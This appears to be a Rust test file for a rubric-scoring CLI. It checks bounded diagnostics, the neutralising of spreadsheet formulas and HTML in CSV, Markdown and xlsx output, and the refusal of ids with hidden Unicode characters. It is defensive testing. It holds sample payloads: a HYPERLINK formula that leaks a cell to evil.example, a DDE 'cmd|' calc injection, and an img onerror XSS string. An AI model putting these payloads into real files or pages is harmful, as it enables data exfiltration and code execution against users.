//! Hostile inputs (issue 11): diagnostics that stay linear and bounded (item 4), CSV, markdown
//! and workbook cells that cannot run as formulas or markup (item 6), ids and quotes that
//! cannot hide or flood what they report (item 12).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use assert_cmd::cargo::cargo_bin_cmd;
use selfeval::diag::{Diagnostic, Pos};
use selfeval::lang::Lang;
use selfeval::report::diagnostics::{SHOWN_PER_KIND, render};
use selfeval::yaml::Source;
use std::io::Write;
use std::time::{Duration, Instant};

const SEED: &str = "examples/conghua-cast-2021/data.yaml";

fn selfeval() -> assert_cmd::Command {
    let mut cmd = cargo_bin_cmd!("selfeval");
    cmd.env_remove("NO_COLOR").env_remove("LC_ALL").env("LANG", "en_US.UTF-8");
    cmd
}

struct TempDir(std::path::PathBuf);

impl TempDir {
    fn new() -> Self {
        use std::sync::atomic::{AtomicUsize, Ordering};
        static N: AtomicUsize = AtomicUsize::new(0);
        let p = std::env::temp_dir().join(format!(
            "selfeval-hostile-diag-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::SeqCst)
        ));
        std::fs::create_dir_all(&p).unwrap();
        TempDir(p)
    }

    fn file(&self, name: &str, text: &str) -> String {
        let path = self.0.join(name);
        std::fs::File::create(&path).unwrap().write_all(text.as_bytes()).unwrap();
        path.to_string_lossy().into_owned()
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// The seed's data file with `n` unknown keys written first under `values:`.
fn seed_with_unknown_keys(n: usize) -> String {
    let seed = std::fs::read_to_string(SEED).unwrap();
    let (head, tail) = seed.split_once("\nvalues:\n").unwrap();
    let mut text = format!("{head}\nvalues:\n");
    for i in 0..n {
        text.push_str(&format!("  unknown_key_{i:06}: {i}\n"));
    }
    text.push_str(tail);
    text
}

// ---- item 4: diagnostics are linear, every problem reported, text bounded ----

/// Rendering used to look each diagnostic's line up by scanning the source from its start:
/// 60 000 diagnostics on a 60 000-line file took minutes. Line starts are now found once.
#[test]
fn item4_render_is_linear_in_the_number_of_diagnostics() {
    let n = 60_000;
    let mut text = String::new();
    for i in 0..n {
        text.push_str(&format!("  key_{i:06}: {i}\n"));
    }
    let source = Source { name: "big.yaml".into(), text };
    let diags: Vec<Diagnostic> = (0..n)
        .map(|i| Diagnostic::warning("big.yaml", Pos::new(i as u32 + 1, 3), format!("unknown key `key_{i:06}`")))
        .collect();
    let start = Instant::now();
    let out = render(&diags, &|_| Some(&source), Lang::En);
    let took = start.elapsed();
    assert!(took < Duration::from_secs(5), "rendering {n} diagnostics took {took:?}");
    // The first SHOWN_PER_KIND in full (a header and 3 snippet lines each), then one line.
    assert_eq!(out.lines().count(), SHOWN_PER_KIND * 4 + 1, "{out}");
}

/// Past 100 problems of one kind, text output names the rest on one bounded line.
#[test]
fn item4_the_rest_of_one_kind_is_one_bounded_line() {
    let n = 120_000;
    let diags: Vec<Diagnostic> = (0..n)
        .map(|i| {
            Diagnostic::warning(
                "d.yaml",
                Pos::new(i + 1, 3),
                format!("values: `k{i}` is not a field of rubric `r`; ignored"),
            )
        })
        .chain([Diagnostic::error("d.yaml", Pos::new(1, 1), "another kind")])
        .collect();
    let out = render(&diags, &|_| None, Lang::En);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), SHOWN_PER_KIND + 2);
    assert_eq!(lines[0], "d.yaml:1:3: warning: values: `k0` is not a field of rubric `r`; ignored");
    assert_eq!(lines[SHOWN_PER_KIND], "d.yaml:1:1: error: another kind");
    let summary = lines[SHOWN_PER_KIND + 1];
    let expected_start =
        "d.yaml: warning: … 119900 more of this kind (values: `…` is not a field of rubric `…`; ignored): k100, k101, ";
    assert!(summary.starts_with(expected_start), "{summary}");
    assert!(summary.ends_with("k119, …"), "{summary}");
    assert!(summary.len() < 400, "{summary}");
}

/// A data file with 40 000 unknown keys (1 MB) took 11 s in a release build; now it is
/// answered in well under the limit below even unoptimised, every key is in the JSON and the
/// text lists 100 of them and then one line.
#[test]
fn item4_many_unknown_keys_are_fast_and_all_reported() {
    let dir = TempDir::new();
    let n = 40_000;
    let data = dir.file("many.yaml", &seed_with_unknown_keys(n));
    let start = Instant::now();
    let out = selfeval().args(["validate", "cast-dept-2021", "--data", &data, "--format", "json"]).output().unwrap();
    let took = start.elapsed();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // Unoptimised under a shared load it takes about 5 s; before the fix, 117 s.
    assert!(took < Duration::from_secs(30), "validate with {n} unknown keys took {took:?}");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["warnings"], n);
    assert_eq!(json["diagnostics"].as_array().unwrap().len(), n);
    let stderr = String::from_utf8(out.stderr).unwrap();
    let headers = stderr.lines().filter(|l| l.contains(": warning: values: `unknown_key_")).count();
    assert_eq!(headers, SHOWN_PER_KIND);
    let summary = stderr.lines().find(|l| l.contains("more of this kind")).unwrap();
    assert!(summary.contains("… 39900 more of this kind"), "{summary}");
    assert!(summary.contains("unknown_key_000100, unknown_key_000101"), "{summary}");
    assert!(stderr.len() < 40_000, "stderr holds {} bytes", stderr.len());
}

/// 30 000 unknown `manual:` ids took 7 s in a release build; now 20 000 take about 2 s
/// unoptimised. Each is an error and all are counted.
#[test]
fn item4_many_unknown_manual_and_not_applicable_ids() {
    let dir = TempDir::new();
    let seed = std::fs::read_to_string(SEED).unwrap();
    for list in ["manual", "not_applicable"] {
        let n = 20_000;
        let mut text = seed.clone();
        text.push_str(&format!("\n{list}:\n"));
        for i in 0..n {
            if list == "manual" {
                text.push_str(&format!("  node_{i:06}: {{score: 1, reason: r}}\n"));
            } else {
                text.push_str(&format!("  node_{i:06}: r\n"));
            }
        }
        let data = dir.file(&format!("{list}.yaml"), &text);
        let start = Instant::now();
        let out =
            selfeval().args(["validate", "cast-dept-2021", "--data", &data, "--format", "json"]).output().unwrap();
        let took = start.elapsed();
        assert!(took < Duration::from_secs(20), "{list}: {took:?}");
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let unknown = json["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|d| d["message"].as_str().unwrap().contains("unknown indicator id `node_"))
            .count();
        assert_eq!(unknown, n, "{list}");
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(stderr.contains(&format!("… {} more of this kind", n - SHOWN_PER_KIND)), "{list}");
    }
}

// ---- item 6: CSV cells never run as formulas, Markdown never as HTML, xlsx text is text ----

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
const COMMAND: &str = "+cmd|' /C calc'!A0";

/// The seed with a hostile subject and period, and (optionally) a declared total under the
/// computed 92.7 so that a difference is negative.
fn hostile_seed(subject: &str, period: &str, declared_total: &str) -> String {
    let seed = std::fs::read_to_string(SEED).unwrap();
    let quote = |s: &str| format!("'{}'", s.replace('\'', "''"));
    seed.replace("subject: 广州市从化区科学技术协会", &format!("subject: {}", quote(subject)))
        .replace("period: \"2021\"", &format!("period: {}", quote(period)))
        .replace("  total: 92.7 ", &format!("  total: {declared_total} "))
}

fn stdout_ok(args: &[&str]) -> String {
    let out = selfeval().args(args).output().unwrap();
    assert!(out.status.code() != Some(101), "{args:?} panicked");
    String::from_utf8(out.stdout).unwrap()
}

/// Every CSV field of a document (no field of these holds a quoted comma or line break).
fn csv_cells(csv: &str) -> Vec<Vec<String>> {
    csv.trim_start_matches('\u{feff}')
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .map(|l| l.split(',').map(|f| f.trim_matches('"').replace("\"\"", "\"")).collect())
        .collect()
}

/// No cell of any CSV writer starts a formula; numbers are left as numbers.
#[test]
fn item6_every_csv_writer_neutralises_formulas() {
    let dir = TempDir::new();
    let data = dir.file("hostile.yaml", &hostile_seed(HYPERLINK, COMMAND, "95"));
    let under = dir.file("under.yaml", &hostile_seed("-2+3", "@SUM(1)", "90"));
    let outputs = [
        stdout_ok(&["score", &data, "--format", "csv"]),
        stdout_ok(&["breakdown", &data, "--format", "csv"]),
        stdout_ok(&["check", &data, &under, "--format", "csv"]),
        stdout_ok(&["score", &data, &under, "--format", "csv"]),
    ];
    for csv in &outputs {
        assert!(!csv.is_empty());
        let cells = csv_cells(csv);
        for cell in cells.iter().flatten() {
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let number = cell.parse::<f64>().is_ok();
            assert!(!risky || number, "live cell {cell:?} in\n{csv}");
        }
        let all: Vec<&String> = cells.iter().flatten().collect();
        assert!(all.iter().any(|c| c.starts_with("'=HYPERLINK(") || c.starts_with("'-2+3")), "{csv}");
    }
    // The subject and period as written, behind the quote.
    let score = &outputs[0];
    assert!(score.contains(&format!("'{}", COMMAND)), "{score}");
    assert!(score.contains(r#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")""#), "{score}");
    // check: an under-claim's negative difference is still a number.
    let check = csv_cells(&outputs[2]);
    let total_under = check.iter().find(|r| r[0].ends_with("under.yaml") && r[3] == "total").unwrap();
    assert_eq!(total_under[1], "'-2+3");
    assert_eq!(total_under[2], "'@SUM(1)");
    assert_eq!(total_under[7], "-2.7");
}

/// Markdown cells show `<` and `>` as entities.
#[test]
fn item6_markdown_cells_escape_markup() {
    let dir = TempDir::new();
    let data = dir.file("m.yaml", &hostile_seed("<img src=x onerror=alert(1)>", "<b>2021</b>", "92.7"));
    for cmd in ["score", "breakdown", "explain", "check"] {
        let md = stdout_ok(&[cmd, &data, "--format", "markdown"]);
        assert!(md.contains("&lt;img src=x onerror=alert(1)&gt;"), "{cmd}: {md}");
        assert!(!md.contains("<img"), "{cmd}: {md}");
    }
    let ranking = stdout_ok(&["score", &data, SEED, "--format", "markdown"]);
    assert!(ranking.contains("&lt;b&gt;2021&lt;/b&gt;") && !ranking.contains("<b>"), "{ranking}");
}

/// A result workbook writes a subject `=HYPERLINK(…)` as a text cell, never a formula.
#[test]
fn item6_xlsx_writes_formula_text_as_text() {
    use calamine::{Data, Reader, Xlsx, open_workbook};
    let dir = TempDir::new();
    let data = dir.file("x.yaml", &hostile_seed(HYPERLINK, COMMAND, "92.7"));
    for (name, args) in [
        ("one.xlsx", vec!["breakdown", data.as_str(), "--format", "xlsx"]),
        ("ranking.xlsx", vec!["score", data.as_str(), SEED, "--format", "xlsx"]),
    ] {
        let out = dir.0.join(name).to_string_lossy().into_owned();
        let status = selfeval().args(&args).args(["-o", &out]).output().unwrap();
        assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
        let mut book: Xlsx<_> = open_workbook(&out).unwrap();
        let mut found = false;
        for sheet in book.sheet_names() {
            let formulas = book.worksheet_formula(&sheet).unwrap();
            assert!(formulas.used_cells().next().is_none(), "{name}!{sheet} has a formula");
            let cells = book.worksheet_range(&sheet).unwrap();
            for (_, _, v) in cells.used_cells() {
                if let Data::String(s) = v
                    && (s.contains("HYPERLINK") || s.contains("cmd|"))
                {
                    assert!(s == HYPERLINK || s == COMMAND || s.contains(HYPERLINK), "{s}");
                    found = true;
                }
            }
        }
        assert!(found, "{name}: the subject is not in the workbook as text");
    }
}

// ---- item 12: ids that hide characters, expressions quoted in bounded excerpts ----

const ALL_RUBRIC: &str = "examples/all-methods/rubric.yaml";

/// all-methods' rubric with one line replaced.
fn all_methods_with(old: &str, new: &str) -> String {
    let rubric = std::fs::read_to_string(ALL_RUBRIC).unwrap();
    assert!(rubric.contains(old), "{old}");
    rubric.replacen(old, new, 1)
}

fn validate_stderr(rubric: &str) -> (Option<i32>, String) {
    let out = selfeval().args(["validate", rubric]).output().unwrap();
    (out.status.code(), String::from_utf8(out.stderr).unwrap())
}

/// Node, veto and rubric ids with control characters, NUL, line breaks, zero-width or
/// bidirectional-text characters are refused at the id, naming the character.
#[test]
fn item12_ids_with_hidden_characters_are_refused() {
    let dir = TempDir::new();
    let leaf = "          - id: asset_use\n";
    let cases = [
        // (the id line as written, line:col expected, the characters named)
        (leaf, "          - id: asset\u{202E}esu\n", "174:22", vec!["U+202E"]),
        (leaf, "          - id: asset_use\u{200F}\n", "174:26", vec!["U+200F"]),
        (leaf, "          - id: \"asset\\0use\"\n", "174:17", vec!["U+0000"]),
        (leaf, "          - id: \"asset\\nuse\"\n", "174:17", vec!["U+000A"]),
        (leaf, "          - id: \"a\\u2066b\\u2069\\t\"\n", "174:17", vec!["U+2066", "U+2069", "U+0009"]),
        (leaf, "          - id: asset\u{200B}use\n", "174:22", vec!["U+200B"]),
        ("  - id: fraud\n", "  - id: fr\u{202D}aud\n", "253:11", vec!["U+202D"]),
        ("id: all-methods\n", "id: all-\u{2067}methods\n", "25:9", vec!["U+2067"]),
    ];
    for (i, (old, new, at, named)) in cases.iter().enumerate() {
        let rubric = dir.file(&format!("r{i}.yaml"), &all_methods_with(old, new));
        let (code, stderr) = validate_stderr(&rubric);
        assert_eq!(code, Some(1), "{new:?} passed validate: {stderr}");
        let line = stderr.lines().find(|l| l.contains("the id contains")).unwrap_or_else(|| panic!("{stderr}"));
        assert!(line.contains(&format!("r{i}.yaml:{at}: error:")), "{new:?}: {line}");
        for code_point in named {
            assert!(line.contains(code_point), "{new:?}: {line}");
        }
        // Nothing of it reaches the terminal raw.
        assert!(
            !stderr.chars().any(
                |c| matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}' | '\u{200F}' | '\0')
            ),
            "{stderr:?}"
        );
    }
}

/// Unknown ids in a data file are quoted with their hidden characters shown, never raw.
#[test]
fn item12_diagnostics_show_hidden_characters_as_code_points() {
    let dir = TempDir::new();
    let seed = std::fs::read_to_string(SEED).unwrap();
    let data = dir.file("d.yaml", &format!("{seed}\nmanual:\n  \"man\\u202Eagement\": {{score: 1, reason: r}}\n"));
    let out = selfeval().args(["score", &data]).output().unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("`man<U+202E>agement`"), "{stderr}");
    assert!(!stderr.contains('\u{202E}'), "{stderr:?}");
}

/// A syntax error in a 200 000-character formula quoted the whole formula (200 KB); now at
/// most 120 characters around the error, with "…", and line:col still at the error.
#[test]
fn item12_expression_errors_quote_a_bounded_excerpt() {
    let dir = TempDir::new();
    let deep = format!("{}x{}", "(".repeat(100_000), ")".repeat(100_000));
    let formula = "            expr: \"points * asset.in_use / asset.total\"\n";
    let derived = "  shortfall: \"max(0, 100 - execution_rate)\"\n";
    let long_name = "n".repeat(100_000);
    let cases = [
        // A syntax error in a formula leaf, at column 65 of the expression (col 19 + 64).
        (formula, format!("            expr: {deep}\n"), "179:83"),
        // The same in a derived name (col 14 + 64).
        (derived, format!("  shortfall: {deep}\n"), "68:78"),
        // A type-check error (an unknown name of 100 000 characters) after 3 characters.
        (derived, format!("  shortfall: 1 + {long_name}\n"), "68:18"),
    ];
    for (i, (old, new, at)) in cases.iter().enumerate() {
        let rubric = dir.file(&format!("e{i}.yaml"), &all_methods_with(old, new));
        let (code, stderr) = validate_stderr(&rubric);
        assert_eq!(code, Some(1));
        assert!(stderr.len() < 2_000, "case {i}: stderr holds {} bytes", stderr.len());
        let line = stderr.lines().find(|l| l.contains(": error: ")).unwrap();
        assert!(line.contains(&format!("e{i}.yaml:{at}: error:")), "case {i}: {line}");
        assert!(line.contains('…'), "case {i}: {line}");
        let quoted = line.split("expression `").nth(1).unwrap().split('`').next().unwrap();
        assert!(quoted.chars().count() <= 122, "case {i}: {quoted}");
    }
}
